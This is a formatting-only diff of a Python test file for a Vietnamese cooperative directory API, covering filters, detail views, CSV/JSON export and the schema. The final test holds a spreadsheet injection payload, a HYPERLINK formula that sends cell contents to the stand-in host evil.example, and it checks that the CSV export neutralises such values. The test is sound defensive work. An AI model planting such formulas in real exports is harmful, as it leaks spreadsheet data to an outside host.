@@ -14,15 +14,36 @@ API = "/api/v1"
 @pytest.fixture
 def directory():
     dak_lak = Province.objects.get(code=66)
-    coffee = f.CooperativeFactory(verified=True, legal_name="Hợp tác xã Cà phê Ea Tul", slug="htx-ca-phe-ea-tul",
-                                  province=dak_lak, sector="CROPS", is_agricultural=True, member_count=120,
-                                  year_founded=2012, ward=Ward.objects.filter(province=dak_lak).order_by("code")[0])
-    craft = f.CooperativeFactory(verified=True, legal_name="Tổ hợp tác Mây tre đan Phú Vinh", kind="THT",
-                                 sector="HANDICRAFT", is_agricultural=False, ward=None)
-    union = f.CooperativeFactory(verified=True, legal_name="Liên hiệp HTX Điều Bình Phước", kind="LHHTX",
-                                 sector="PROCESSING", is_agricultural=False)
-    hidden = [f.CooperativeFactory(status=s, legal_name=f"HTX ẩn {s}") for s in
-              ("DRAFT", "SUBMITTED", "REJECTED", "SUSPENDED")]
+    coffee = f.CooperativeFactory(
+        verified=True,
+        legal_name="Hợp tác xã Cà phê Ea Tul",
+        slug="htx-ca-phe-ea-tul",
+        province=dak_lak,
+        sector="CROPS",
+        is_agricultural=True,
+        member_count=120,
+        year_founded=2012,
+        ward=Ward.objects.filter(province=dak_lak).order_by("code")[0],
+    )
+    craft = f.CooperativeFactory(
+        verified=True,
+        legal_name="Tổ hợp tác Mây tre đan Phú Vinh",
+        kind="THT",
+        sector="HANDICRAFT",
+        is_agricultural=False,
+        ward=None,
+    )
+    union = f.CooperativeFactory(
+        verified=True,
+        legal_name="Liên hiệp HTX Điều Bình Phước",
+        kind="LHHTX",
+        sector="PROCESSING",
+        is_agricultural=False,
+    )
+    hidden = [
+        f.CooperativeFactory(status=s, legal_name=f"HTX ẩn {s}")
+        for s in ("DRAFT", "SUBMITTED", "REJECTED", "SUSPENDED")
+    ]
     return {"coffee": coffee, "craft": craft, "union": union, "hidden": hidden}
 
 
@@ -32,10 +53,17 @@ def ids(response):
 
 @pytest.mark.parametrize(
     "query, expected",
-    [("", ["coffee", "craft", "union"]), ("?province=66", ["coffee"]), ("?kind=THT", ["craft"]),
-     ("?sector=PROCESSING", ["union"]), ("?is_agricultural=true", ["coffee"]),
-     ("?is_agricultural=false", ["craft", "union"]), ("?q=mây tre", ["craft"]), ("?q=EA TUL", ["coffee"]),
-     ("?province=66&kind=THT", [])],
+    [
+        ("", ["coffee", "craft", "union"]),
+        ("?province=66", ["coffee"]),
+        ("?kind=THT", ["craft"]),
+        ("?sector=PROCESSING", ["union"]),
+        ("?is_agricultural=true", ["coffee"]),
+        ("?is_agricultural=false", ["craft", "union"]),
+        ("?q=mây tre", ["craft"]),
+        ("?q=EA TUL", ["coffee"]),
+        ("?province=66&kind=THT", []),
+    ],
 )
 def test_directory_filters_show_verified_only(query, expected, directory, client):
     response = client.get(f"{API}/cooperatives/{query}")
@@ -60,7 +88,10 @@ def test_detail_by_id_and_slug(directory, client):
 
     assert by_id == by_slug
     assert (by_id["legal_name"], by_id["province"], by_id["member_count"]) == (
-        "Hợp tác xã Cà phê Ea Tul", {"code": 66, "name": "Đắk Lắk"}, 120)
+        "Hợp tác xã Cà phê Ea Tul",
+        {"code": 66, "name": "Đắk Lắk"},
+        120,
+    )
     assert "bank_account" not in by_id and "status_reason" not in by_id
 
 
@@ -79,21 +110,48 @@ def test_export_csv_has_bom_and_vietnamese(directory, client):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert raw.startswith(b"\xef\xbb\xbf")
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
-    assert [int(r["id"]) for r in rows] == sorted(directory[n].pk for n in ("coffee", "craft", "union"))
+    assert [int(r["id"]) for r in rows] == sorted(
+        directory[n].pk for n in ("coffee", "craft", "union")
+    )
     coffee = next(r for r in rows if r["slug"] == "htx-ca-phe-ea-tul")
     c = directory["coffee"]
-    assert {k: coffee[k] for k in ("legal_name", "registration_number", "tax_code", "province_code",
-                                   "province_name", "ward_code", "ward_name", "kind", "sector", "member_count",
-                                   "year_founded")} == {
-        "legal_name": "Hợp tác xã Cà phê Ea Tul", "registration_number": c.registration_number,
-        "tax_code": c.tax_code, "province_code": "66", "province_name": "Đắk Lắk",
-        "ward_code": str(c.ward_id), "ward_name": c.ward.name, "kind": "HTX", "sector": "CROPS",
-        "member_count": "120", "year_founded": "2012"}
+    assert {
+        k: coffee[k]
+        for k in (
+            "legal_name",
+            "registration_number",
+            "tax_code",
+            "province_code",
+            "province_name",
+            "ward_code",
+            "ward_name",
+            "kind",
+            "sector",
+            "member_count",
+            "year_founded",
+        )
+    } == {
+        "legal_name": "Hợp tác xã Cà phê Ea Tul",
+        "registration_number": c.registration_number,
+        "tax_code": c.tax_code,
+        "province_code": "66",
+        "province_name": "Đắk Lắk",
+        "ward_code": str(c.ward_id),
+        "ward_name": c.ward.name,
+        "kind": "HTX",
+        "sector": "CROPS",
+        "member_count": "120",
+        "year_founded": "2012",
+    }
 
 
 def test_export_json_matches_csv(directory, client):
     body = json.loads(client.get(f"{API}/cooperatives/export.json").content)
-    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))
+        )
+    )
 
     assert body["count"] == 3
     assert [c["id"] for c in body["cooperatives"]] == [int(r["id"]) for r in rows]
@@ -118,9 +176,15 @@ def test_schema_lists_market_endpoints_without_warnings(client):
     response = client.get("/api/schema/", HTTP_ACCEPT="application/json")
 
     paths = response.json()["paths"]
-    for path in ("/api/v1/auth/signup/", "/api/v1/auth/login/", "/api/v1/cooperatives/",
-                 "/api/v1/cooperatives/export.csv", "/api/v1/cooperatives/{id}/verify/",
-                 "/api/v1/admin/verification-queue/", "/api/v1/cooperatives/{id}/documents/{document_id}/download/"):
+    for path in (
+        "/api/v1/auth/signup/",
+        "/api/v1/auth/login/",
+        "/api/v1/cooperatives/",
+        "/api/v1/cooperatives/export.csv",
+        "/api/v1/cooperatives/{id}/verify/",
+        "/api/v1/admin/verification-queue/",
+        "/api/v1/cooperatives/{id}/documents/{document_id}/download/",
+    ):
         assert path in paths
 
 
@@ -145,8 +209,11 @@ def test_schema_generation_has_no_warnings_for_market_views():
 
     SchemaGenerator().get_schema(request=None, public=True)
 
-    mine = [m for m in list(GENERATOR_STATS._warn_cache) + list(GENERATOR_STATS._error_cache)
-            if "/market/" in m]
+    mine = [
+        m
+        for m in list(GENERATOR_STATS._warn_cache) + list(GENERATOR_STATS._error_cache)
+        if "/market/" in m
+    ]
     GENERATOR_STATS.reset()
     assert mine == []
 
@@ -157,19 +224,32 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 def test_csv_export_neutralises_formulas_but_json_keeps_values(client, tmp_path):
     from django.core.management import call_command
 
-    coop = f.CooperativeFactory(verified=True, legal_name=FORMULA, trading_name="+84 912", address="-1+1",
-                                representative="x")
+    coop = f.CooperativeFactory(
+        verified=True,
+        legal_name=FORMULA,
+        trading_name="+84 912",
+        address="-1+1",
+        representative="x",
+    )
     f.CooperativeFactory(verified=True, legal_name="@SUM(1)", trading_name="\tTab", address="\rCR")
     target = tmp_path / "htx.csv"
 
-    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))
+        )
+    )
     call_command("cooperatives_export", "--format", "csv", "--output", str(target))
     body = json.loads(client.get(f"{API}/cooperatives/export.json").content)
 
     assert [(r["legal_name"], r["trading_name"], r["address"]) for r in rows] == [
-        ("'" + FORMULA, "'+84 912", "'-1+1"), ("'@SUM(1)", "'\tTab", "'\rCR")]
+        ("'" + FORMULA, "'+84 912", "'-1+1"),
+        ("'@SUM(1)", "'\tTab", "'\rCR"),
+    ]
     assert next(r for r in rows if r["id"] == str(coop.pk))["province_name"] == "Lạng Sơn"
     file_rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
     assert file_rows == rows
     assert [(c["legal_name"], c["trading_name"], c["address"]) for c in body["cooperatives"]] == [
-        (FORMULA, "+84 912", "-1+1"), ("@SUM(1)", "\tTab", "\rCR")]
+        (FORMULA, "+84 912", "-1+1"),
+        ("@SUM(1)", "\tTab", "\rCR"),
+    ]
